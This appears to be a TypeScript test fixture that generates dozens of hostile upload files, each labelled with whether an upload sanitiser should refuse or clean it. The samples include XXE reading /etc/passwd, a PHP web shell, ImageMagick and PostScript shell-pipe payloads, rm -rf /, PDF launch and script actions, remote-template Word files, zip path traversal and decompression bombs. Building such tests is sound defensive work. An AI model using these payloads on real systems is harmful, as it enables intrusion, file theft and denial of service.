import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { buildZip, workbookFiles, type ZipFile } from "#tests/support/zip-builder.ts";

/** What must become of an upload: refused with words, or kept as something that can do no harm. */
export type Fate = "refused" | "clean";
/** An upload that means harm, as `photo` of a contact and as `paper` of a message or issue. */
export type HostileUpload = { name: string; bytes: Buffer; photo: Fate; paper: Fate };

/** Words hidden in what would be kept; no stored photo may hold them. */
export const CANARY = "canary-7f3a";

const bytesOf = (hex: string) => Buffer.from(hex, "hex");
const PNG_HEAD = bytesOf("89504e470d0a1a0a");
const JPEG_HEAD = bytesOf("ffd8ffe000104a46494600010100000100010000");

const TABLE = Array.from({ length: 256 }, (_, index) => {
  let value = index;
  for (let bit = 0; bit < 8; bit++) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
  return value >>> 0;
});
const crc = (data: Buffer) =>
  (data.reduce((sum, byte) => (TABLE[(sum ^ byte) & 0xff] ?? 0) ^ (sum >>> 8), 0xffffffff) ^ 0xffffffff) >>>
  0;

function chunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(kind, "latin1"), data]);
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const tail = Buffer.alloc(4);
  tail.writeUInt32BE(crc(body));
  return Buffer.concat([head, body, tail]);
}

/** A PNG that claims a size; its pixels are what is given, packed. */
function png(width: number, height: number, pixels: Buffer, more: Buffer[] = []): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    PNG_HEAD,
    chunk("IHDR", header),
    ...more,
    chunk("IDAT", pixels),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function pdf(objects: string[], tail = "%%EOF\n"): Buffer {
  const body = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join("");
  return Buffer.from(`%PDF-1.7\n${body}trailer\n<< /Root 1 0 R >>\n${tail}`, "latin1");
}

/** A PDF whose objects lie packed in a list, as today's programs write them. */
function packedPdf(objects: string): Buffer {
  const packed = deflateSync(Buffer.from(`1 0 ${objects}`, "latin1"));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
      "latin1",
    ),
    packed,
    Buffer.from("\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", "latin1"),
  ]);
}

const TYPES = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`;
const word = (more: ZipFile[] = [], types = TYPES): Buffer =>
  buildZip([
    { name: "[Content_Types].xml", data: types },
    { name: "word/document.xml", data: "<w:document><w:body/></w:document>" },
    ...more,
  ]);
const relation = (name: string, kind: string): ZipFile => ({
  name,
  data: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="http://evil.example/x" TargetMode="External"/></Relationships>`,
});

/** More than forty uploads that mean harm, each with what must become of it. */
export async function hostileUploads(): Promise<HostileUpload[]> {
  const solid = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: "#0b6e6e" }, limitInputPixels: false });
  const jpeg = await solid(60, 40).jpeg().toBuffer();
  const pngFile = await solid(60, 40).png().toBuffer();
  const webp = await solid(60, 40).webp().toBuffer();
  const located = await solid(60, 40)
    .withExif({ IFD0: { Make: CANARY, ImageDescription: CANARY }, IFD3: { GPSLatitude: "30/1 42/1 0/1" } })
    .jpeg()
    .toBuffer();
  const profiled = await solid(60, 40)
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><a>${CANARY}</a></x:xmpmeta>`)
    .jpeg()
    .toBuffer();
  const comment = Buffer.concat([bytesOf("fffe0010"), Buffer.from(`${CANARY} `.padEnd(14))]);
  const drawnInSteps = await solid(7_600, 7_600)
    .jpeg({ progressive: true, chromaSubsampling: "4:4:4" })
    .toBuffer();
  const woven = await solid(7_600, 7_600).png({ progressive: true, compressionLevel: 9 }).toBuffer();
  const smaller = await solid(1_400, 1_400)
    .jpeg({ progressive: true, chromaSubsampling: "4:4:4" })
    .toBuffer();
  const large = await solid(7_600, 7_600).webp({ effort: 0 }).toBuffer();
  const wide = await solid(16_000, 16_000).png({ compressionLevel: 9 }).toBuffer();
  const animated = await sharp(Buffer.alloc(40 * 400 * 3, 90), {
    raw: { width: 40, height: 400, channels: 3, pageHeight: 40 },
  })
    .webp({ loop: 0 })
    .toBuffer();
  const zeros = deflateSync(Buffer.alloc(24 * 1024 * 1024));

  const refused = (name: string, bytes: Buffer): HostileUpload => ({
    name,
    bytes,
    photo: "refused",
    paper: "refused",
  });
  const cleaned = (name: string, bytes: Buffer): HostileUpload => ({
    name,
    bytes,
    photo: "clean",
    paper: "clean",
  });
  const passive = (name: string, bytes: Buffer): HostileUpload => ({
    name,
    bytes,
    photo: "refused",
    paper: "clean",
  });
  return [
    refused("nothing at all", Buffer.alloc(0)),
    refused("one byte", Buffer.from("x")),
    refused("zeros", Buffer.alloc(1_000)),
    refused("noise", Buffer.from(Array.from({ length: 4_000 }, (_, at) => (at * 7919) % 251))),
    refused(
      "an SVG with a script",
      Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
    ),
    refused(
      "an SVG that reads files",
      Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
      ),
    ),
    refused(
      "an SVG that unfolds",
      Buffer.from(
        `<!DOCTYPE s [<!ENTITY a "${"a".repeat(99)}"><!ENTITY b "${"&a;".repeat(99)}"><!ENTITY c "${"&b;".repeat(99)}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>`,
      ),
    ),
    refused("a page", Buffer.from("<!doctype html><script>alert(1)</script>")),
    refused("a script of a server", Buffer.from("<?php system($_GET['c']);")),
    refused("a GIF", Buffer.from("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;", "latin1")),
    refused("a BMP", Buffer.concat([Buffer.from("BM"), Buffer.alloc(60)])),
    refused("a TIFF", await solid(20, 20).tiff().toBuffer()),
    refused("an icon", bytesOf("00000100010010100000")),
    refused(
      "an ImageMagick script",
      Buffer.from(`push graphic-context\nfill 'url(https://x.example/"|ls ")'\npop graphic-context`),
    ),
    refused("a PostScript program", Buffer.from("%!PS-Adobe-3.0\n(%pipe%ls) (r) file")),
    refused("a program of Windows", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(600)])),
    refused("a program of Linux", Buffer.concat([bytesOf("7f454c46020101"), Buffer.alloc(600)])),
    refused("a Java class", bytesOf("cafebabe00000034")),
    refused("a shell script", Buffer.from("#!/bin/sh\nrm -rf /\n")),
    refused("a link of Windows", bytesOf("4c0000000114020000000000c000000000000046")),
    refused("a RAR", bytesOf("526172211a0700cf907300000d00000000000000")),
    refused("a gzip", bytesOf("1f8b0800000000000003")),
    refused("an old Word file", Buffer.concat([bytesOf("d0cf11e0a1b11ae1"), Buffer.alloc(2_000)])),
    refused("a rich text with an object", Buffer.from("{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}")),
    refused(
      "a video with a photo's ending",
      Buffer.concat([bytesOf("00000018"), Buffer.from("ftypmp42"), Buffer.alloc(99)]),
    ),
    refused("a JPEG of a head alone", JPEG_HEAD),
    refused("a JPEG cut in half", jpeg.subarray(0, jpeg.length / 2)),
    refused("a PNG of a head alone", PNG_HEAD),
    refused("a PNG's head before a script", Buffer.concat([PNG_HEAD, Buffer.from("<?php system(1);")])),
    refused("a PNG cut in half", pngFile.subarray(0, pngFile.length / 2)),
    refused(
      "a PNG whose check sums are wrong",
      Buffer.from(pngFile.map((byte, at) => (at > 40 && at < 60 ? byte ^ 255 : byte))),
    ),
    refused("a WebP of a head alone", Buffer.from("RIFF\u0010\u0000\u0000\u0000WEBPVP8 ", "latin1")),
    refused("a WebP cut in half", webp.subarray(0, webp.length / 2)),
    refused("a PNG of 256 megapixels in a few hundred kB", wide),
    refused("a JPEG of 58 megapixels that is only whole at its end", drawnInSteps),
    refused("a PNG of 58 megapixels whose lines are interlaced", woven),
    cleaned("a JPEG of 2 megapixels that is only whole at its end", smaller),
    cleaned("a WebP of 58 megapixels", large),
    refused(
      "a PNG that claims two thousand million pixels a side",
      png(2_000_000_000, 2_000_000_000, deflateSync(Buffer.alloc(9))),
    ),
    refused("a PNG of no width", png(0, 40, deflateSync(Buffer.alloc(9)))),
    refused("a PNG with less in it than it claims", png(4_000, 4_000, deflateSync(Buffer.alloc(9)))),
    refused(
      "an SVG within a WebP's head",
      Buffer.concat([
        Buffer.from("RIFF\u0000\u0000\u0000\u0000WEBP", "latin1"),
        Buffer.from("<svg onload=alert(1)>"),
      ]),
    ),
    cleaned("a PNG with more in it than it claims", png(40, 40, zeros)),
    cleaned("a JPEG that tells place and device", located),
    cleaned("a JPEG with a packet of XMP", profiled),
    cleaned("a JPEG with a comment", Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)])),
    cleaned(
      "a PNG with words beside its pixels",
      Buffer.concat([
        pngFile.subarray(0, 33),
        chunk("tEXt", Buffer.from(`Comment\u0000${CANARY}`, "latin1")),
        pngFile.subarray(33),
      ]),
    ),
    cleaned(
      "a JPEG that is a page too",
      Buffer.concat([jpeg, Buffer.from(`<html><script>${CANARY}</script>`)]),
    ),
    cleaned(
      "a JPEG that is an archive too",
      Buffer.concat([jpeg, buildZip([{ name: `${CANARY}.exe`, data: CANARY }])]),
    ),
    cleaned("a PNG that is a script too", Buffer.concat([pngFile, Buffer.from(`<?php echo '${CANARY}';`)])),
    cleaned("a WebP that moves", animated),
    cleaned("a thin, long JPEG", await solid(8_000, 1).jpeg().toBuffer()),
    passive(
      "a PDF that only shows a page",
      pdf([
        "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
        "<< /Type /Pages /Kids [] /Count 0 >>",
      ]),
    ),
    refused(
      "a PDF with a script",
      pdf(["<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"]),
    ),
    refused(
      "a PDF with a script whose name is in figures",
      pdf(["<< /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (x) >> >>"]),
    ),
    refused(
      "a PDF with a script in a packed list",
      packedPdf("<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>"),
    ),
    refused(
      "a PDF that starts a program",
      pdf(["<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"]),
    ),
    refused(
      "a PDF with a program inside",
      pdf(["<< /Type /Filespec /UF (rechnung.exe) /EF << /F 2 0 R >> >>"]),
    ),
    refused(
      "a PDF with a program inside, its name in two bytes a letter",
      pdf(["<< /Type /Filespec /UF <FEFF0061002E006500780065> /EF << /F 2 0 R >> >>"]),
    ),
    refused("a PDF with a form of scripts", pdf(["<< /Type /Catalog /AcroForm << /XFA 2 0 R >> >>"])),
    refused("a PDF whose packed list unfolds to gigabytes", packedPdf(" ".repeat(64 * 1024 * 1024))),
    refused("a PDF cut short", pdf(["<< /Type /Catalog >>"], "")),
    refused("a PDF of a head alone", Buffer.from("%PDF-1.7\n")),
    passive("a plain Word file", word()),
    refused("a Word file with macros", word([{ name: "word/vbaProject.bin", data: "macro" }])),
    refused(
      "a Word file that says it has macros",
      word(
        [],
        TYPES.replace(
          "/>",
          `><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
        ),
      ),
    ),
    refused(
      "a Word file with a template from elsewhere",
      word([relation("word/_rels/settings.xml.rels", "attachedTemplate")]),
    ),
    refused(
      "a Word file with an object from elsewhere",
      word([relation("word/_rels/document.xml.rels", "oleObject")]),
    ),
    passive("a Word file with a link", word([relation("word/_rels/document.xml.rels", "hyperlink")])),
    refused(
      "a Word file with a program inside",
      word([{ name: "word/embeddings/oleObject1.bin", data: "MZ" }]),
    ),
    refused(
      "a Word file that unfolds to hundreds of megabytes",
      word([{ name: "word/media/a.xml", data: Buffer.alloc(200 * 1024 * 1024) }]),
    ),
    refused("a Word file cut short", word().subarray(0, 200)),
    refused(
      "a workbook with macros",
      buildZip(workbookFiles("<sheetData/>", [{ name: "xl/vbaProject.bin", data: "macro" }])),
    ),
    refused(
      "a workbook with sheets of commands",
      buildZip(workbookFiles("<sheetData/>", [{ name: "xl/macrosheets/sheet1.xml", data: "<x/>" }])),
    ),
    refused("an archive of programs", buildZip([{ name: "a.exe", data: "MZ" }])),
    refused(
      "an archive that climbs out of its folder",
      buildZip([{ name: "../../etc/cron.d/x", data: "x" }]),
    ),
    refused(
      "an archive of archives",
      buildZip([{ name: "a.zip", data: buildZip([{ name: "b.zip", data: buildZip([]) }]) }]),
    ),
    refused("a photo of 13 MB", Buffer.concat([jpeg, Buffer.alloc(13 * 1024 * 1024)])),
    refused("a paper of 21 MB", Buffer.concat([pdf(["<< >>"]), Buffer.alloc(21 * 1024 * 1024)])),
  ];
}
